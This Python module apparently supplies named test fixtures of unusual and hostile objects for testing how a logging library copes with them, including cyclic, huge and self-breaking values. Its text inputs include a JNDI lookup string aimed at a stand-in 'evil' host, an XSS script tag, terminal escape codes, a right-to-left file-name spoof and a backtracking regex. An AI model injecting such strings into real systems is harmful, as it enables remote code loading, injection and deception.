"""Objects that programs log by accident or out of malice, each under a name."""

import array
import collections
import dataclasses
import datetime
import decimal
import enum
import fractions
import ipaddress
import itertools
import logging
import pathlib
import re
import threading
import types
import uuid
import weakref
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any


class Colour(enum.Enum):
    RED = object()


class Level(enum.IntEnum):
    HIGH = 3


class Bits(enum.Flag):
    A = 1
    B = 2


class Loud:
    """Raises a given exception at any access."""

    def __init__(self, error: BaseException) -> None:
        self.error = error

    def _raise(self, *_: object) -> Any:
        raise self.error

    __repr__ = __str__ = __format__ = __len__ = __iter__ = __bool__ = __hash__ = __eq__ = _raise
    __int__ = __float__ = __index__ = __bytes__ = __contains__ = __getitem__ = _raise


class Rubbish:
    """Gives what is no text where a text is asked for."""

    def __repr__(self) -> Any:
        return 42

    def __str__(self) -> Any:
        return b"no text"


class Nosy:
    """Answers every question for an attribute with an error."""

    def __getattribute__(self, name: str) -> Any:
        raise RuntimeError(f"{name} is nobody's business")


class Liar:
    """Says it is something else."""

    def __init__(self, kind: type) -> None:
        self._kind = kind

    @property
    def __class__(self) -> Any:
        return self._kind


class Nameless(type):
    """A type of types that do not tell their name."""

    @property
    def __name__(cls) -> Any:
        raise RuntimeError("no name")

    def __repr__(cls) -> str:
        raise RuntimeError("no name")


class Anonymous(metaclass=Nameless):
    def __repr__(self) -> str:
        raise RuntimeError("no repr")


class Text(str):
    """A text that is not content with being one."""

    def __str__(self) -> str:
        raise RuntimeError("not now")

    def __hash__(self) -> int:
        raise RuntimeError("not now")

    def __eq__(self, other: object) -> bool:
        raise RuntimeError("not now")

    def __len__(self) -> int:
        return -1


class Endless(Sequence[int]):
    def __len__(self) -> int:
        return 10**12

    def __getitem__(self, index: Any) -> Any:
        return index


class Bottomless(Sequence[Any]):
    def __len__(self) -> int:
        return 1

    def __getitem__(self, index: Any) -> Any:
        return Bottomless()


class BadMapping(Mapping[str, int]):
    """Breaks at a given place."""

    def __init__(self, where: str) -> None:
        self._where = where

    def _maybe(self, where: str) -> None:
        if where == self._where:
            raise RuntimeError(where)

    def __len__(self) -> int:
        self._maybe("len")
        return 2

    def __iter__(self) -> Iterator[str]:
        self._maybe("iter")
        return iter(("a", "b"))

    def __getitem__(self, key: str) -> int:
        self._maybe("getitem")
        return 1

    def items(self) -> Any:
        self._maybe("items")
        return super().items()


class BadDict(dict[Any, Any]):
    def get(self, *_: Any) -> Any:
        raise RuntimeError("get")

    def items(self) -> Any:
        raise RuntimeError("items")

    def __getitem__(self, key: Any) -> Any:
        raise RuntimeError("getitem")

    def __contains__(self, key: Any) -> bool:
        raise RuntimeError("contains")

    def __iter__(self) -> Any:
        raise RuntimeError("iter")


class Slotted:
    __slots__ = ("missing",)


@dataclasses.dataclass
class Order:
    number: int
    lines: list[str]
    secret: str = dataclasses.field(default="x", repr=False)


@dataclasses.dataclass
class Broken:
    missing: int

    def __init__(self) -> None:
        pass


class BadError(Exception):
    """An exception that is broken itself."""

    def __str__(self) -> str:
        raise RuntimeError("no text")

    @property
    def __notes__(self) -> Any:
        raise RuntimeError("no notes")

    @property
    def __dict__(self) -> Any:
        raise RuntimeError("no attributes")

    @property
    def __class__(self) -> Any:
        raise RuntimeError("no class")


class Attributes:
    """Has any attribute, to any depth, and calls itself by no end of a name."""

    def __getattr__(self, name: str) -> Any:
        return Attributes()

    def __repr__(self) -> str:
        return "Attributes " * 50_000


class Large:
    """Something large, made when it is needed: every process that runs some of the tests would keep it."""

    def __init__(self, make: Callable[[], Any]) -> None:
        self.make = make


def _nested(depth: int, wrap: Any) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = wrap(value)
    return value


def _cycle_list() -> Any:
    value: list[Any] = [1]
    value.append(value)
    return value


def _cycle_dict() -> Any:
    value: dict[str, Any] = {}
    value["self"] = {"again": value}
    return value


def _cycle_pair() -> Any:
    one: list[Any] = []
    two = {"one": one}
    one.append(two)
    return two


def _recursive_repr() -> Any:
    class Recursive:
        def __repr__(self) -> str:
            return f"<{self!r}>"

    return Recursive()


def shared(depth: int) -> Any:
    value: Any = ["x"]
    for _ in range(depth):
        value = [value, value]
    return value


NUMBERS: dict[str, Any] = {
    "zero": 0,
    "negative": -1,
    "bool": True,
    "huge integer": 10**5000,
    "negative huge integer": -(10**5000),
    "2**63": 2**63,
    "nan": float("nan"),
    "infinity": float("inf"),
    "negative infinity": float("-inf"),
    "nan in a tuple": (1, (float("nan"),)),
    "nan as a key": {float("nan"): float("nan")},
    "tiny": 5e-324,
    "complex": complex(float("nan"), 1),
    "decimal": decimal.Decimal("1.10"),
    "decimal nan": decimal.Decimal("NaN"),
    "signalling nan": decimal.Decimal("sNaN"),
    "decimal infinity": decimal.Decimal("Infinity"),
    "long decimal": decimal.Decimal(1).scaleb(5000),
    "fraction": fractions.Fraction(1, 3),
    "int enum": Level.HIGH,
    "flag": Bits.A | Bits.B,
    "enum of an object": Colour.RED,
    "range": range(10**9),
}

TEXTS: dict[str, Any] = {
    "empty": "",
    "blank": " \t\n ",
    "nul": "a\x00b",
    "controls": "".join(map(chr, range(32))),
    "lone surrogate": "\ud800",
    "surrogates the wrong way round": "\udc00\ud800",
    "undecodable file name": b"caf\xe9".decode("utf-8", "surrogateescape"),
    "terminal codes": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "bidirectional": "invoice \u202efdp.exe",
    "zero width": "a\u200bb\u2060c\ufeff",
    "line separators": "a\u2028b\u2029c\x85d",
    "carriage returns": "a\r\nb\rc",
    "emoji": "👩‍👩‍👧‍👦" * 300,
    "combining": "e" + "\u0301" * 5_000,
    "four-byte characters": "\U0001f600" * 200_000,
    "one long line": "x" * 2_000_000,
    "many lines": "line\n" * 100_000,
    "percent": "100% of %s and %d",
    "braces": "{} {0} {name!r:>{width}}",
    "json-like": '{"event": "x", "deep": ' + "[" * 5_000 + "]" * 5_000 + "}",
    "json with nan": '{"event": "x", "v": NaN, "w": 1e999}',
    "json with a huge integer": '{"event": "x", "v": ' + "9" * 5_000 + "}",
    "json list": "[1, 2, 3]",
    "json without a message": '{"a": 1}',
    "a traceback and nothing else": "Traceback (most recent call last):\n",
    "a broken traceback": 'Traceback (most recent call last):\n  File "x", line 99999999999999999999\nE',
    "html": "<script>alert(1)</script>",
    "text subclass": Text("quiet"),
    "private use": "\ue000\uf8ff\U000fffff",
    "non-characters": "\ufffe\uffff",
    "bytes": b"\xff\x00plain",
    "a million bytes": b"\xff" * 1_000_000,
    "bytearray": bytearray(b"abc"),
    "memoryview": memoryview(b"abc"),
    "array": array.array("d", [1.0, float("nan")]),
    "pattern": re.compile("(a+)+$"),
    "path": pathlib.Path("/tmp/\udcff"),
    "template": "${jndi:ldap://evil/a}",
}

CONTAINERS: dict[str, Any] = {
    "empty list": [],
    "empty mapping": {},
    "set": {1, "a", None},
    "frozenset of tuples": frozenset({(1, 2), ("a",)}),
    "tuple keys": {(1, 2): "x", None: 1, True: 2, 1.5: 3},
    "keys that look alike": {1: "a", "1": "b"},
    "bytes keys": {b"k": 1},
    "surrogate keys": {chr(0xD800): 1, chr(0xDC00): 2},
    "huge keys": {"k" * 1_000_000: 1},
    "empty key": {"": 1},
    "object keys": {object(): 1},
    "list in itself": _cycle_list(),
    "mapping in itself": _cycle_dict(),
    "mutual": _cycle_pair(),
    "shared many times": shared(12),
    "deep list": Large(lambda: _nested(100_000, lambda value: [value])),
    "deep mapping": Large(lambda: _nested(100_000, lambda value: {"k": value})),
    "deep tuple": _nested(5_000, lambda value: (value,)),
    "a million items": Large(lambda: list(range(1_000_000))),
    "a million keys": Large(lambda: dict.fromkeys(range(1_000_000))),
    "wide and deep": [[[["x"] * 30] * 30] * 30] * 30,
    "many long texts": ["y" * 90_000] * 400,
    "deque": collections.deque([1, 2], maxlen=2),
    "counter": collections.Counter("hello"),
    "default dict": collections.defaultdict(list, a=[1]),
    "chain map": collections.ChainMap({"a": 1}, {"b": 2}),
    "named tuple": collections.namedtuple("Point", "x y")(1, 2),
    "ordered dict": collections.OrderedDict(b=1, a=2),
    "mapping proxy": types.MappingProxyType({"a": 1}),
    "namespace": types.SimpleNamespace(a=1, b=[2]),
    "generator": (number for number in itertools.count()),
    "iterator": itertools.repeat("x"),
    "map": map(str, [1]),
    "zip": zip([1], [2], strict=True),
    "dict keys": {"a": 1}.keys(),
    "dict values": {"a": 1}.values(),
    "endless sequence": Endless(),
    "bottomless sequence": Bottomless(),
    "bad dict": BadDict(a=1),
    "our own name inside": {"pagerduty": {"severity": "critical"}},
    "event of structlog": {"event": {"event": "x"}, "level": 3},
    "event with a bad text": {"event": Loud(ValueError("event"))},
    "nested exc_info": {"event": "x", "exc_info": Loud(ValueError("info"))},
    "exc_info without an exception": {"event": "x", "exc_info": True},
    **{f"mapping broken at {where}": BadMapping(where) for where in ("len", "iter", "getitem", "items")},
}

OBJECTS: dict[str, Any] = {
    "none": None,
    "ellipsis": ...,
    "not implemented": NotImplemented,
    "object": object(),
    "type": int,
    "module": types,
    "function": shared,
    "method": "".join,
    "code": (lambda: None).__code__,
    "lock": threading.Lock(),
    "thread": threading.current_thread(),
    "thread local": threading.local(),
    "weak reference": weakref.ref(Loud),
    "dead proxy": weakref.proxy(collections.UserDict()),
    "logger": logging.getLogger("hostile"),
    "uuid": uuid.UUID(int=1),
    "date": datetime.date(2026, 1, 31),
    "naive time": datetime.datetime.min,
    "aware time": datetime.datetime.max.replace(tzinfo=datetime.UTC),
    "time of day": datetime.time(1, 2),
    "duration": datetime.timedelta.max,
    "ip address": ipaddress.ip_address("::1"),
    "data class": Order(1, ["a"]),
    "data class type": Order,
    "data class without its fields": Broken(),
    "slots": Slotted(),
    "rubbish": Rubbish(),
    "nosy": Nosy(),
    "anonymous": Anonymous(),
    "anonymous type": Anonymous,
    "recursive repr": _recursive_repr(),
    "any attribute": Attributes(),
    "user list": collections.UserList([1]),
    "user string": collections.UserString("abc"),
    **{
        f"raises {type(error).__name__}": Loud(error)
        for error in (
            ValueError("loud"),
            RecursionError("loud"),
            MemoryError("loud"),
            StopIteration("loud"),
            UnicodeDecodeError("utf-8", b"\xff", 0, 1, "loud"),
            AssertionError("loud"),
            BadError("loud"),
            OSError(5, "loud"),
            KeyError("loud"),
        )
    },
    **{
        f"says it is a {kind.__name__}": Liar(kind)
        for kind in (
            str,
            int,
            float,
            dict,
            list,
            tuple,
            set,
            bytes,
            datetime.datetime,
            decimal.Decimal,
            type(None),
            Exception,
        )
    },
}

EXCEPTIONS: dict[str, Any] = {
    "exception": ValueError("x"),
    "exception without a text": ValueError(),
    "exception of exceptions": ValueError(ValueError(ValueError())),
    "bad exception": BadError("x"),
    "group": ExceptionGroup("g", [ValueError(1), TypeError(2)]),
    "nested exception type": type("Ünï.<locals>", (Exception,), {})("x"),
}

ALL: dict[str, Any] = {**NUMBERS, **TEXTS, **CONTAINERS, **OBJECTS, **EXCEPTIONS}


def named(name: str) -> Any:
    """Return the object of that name."""
    value = ALL[name]
    return value.make() if type(value) is Large else value
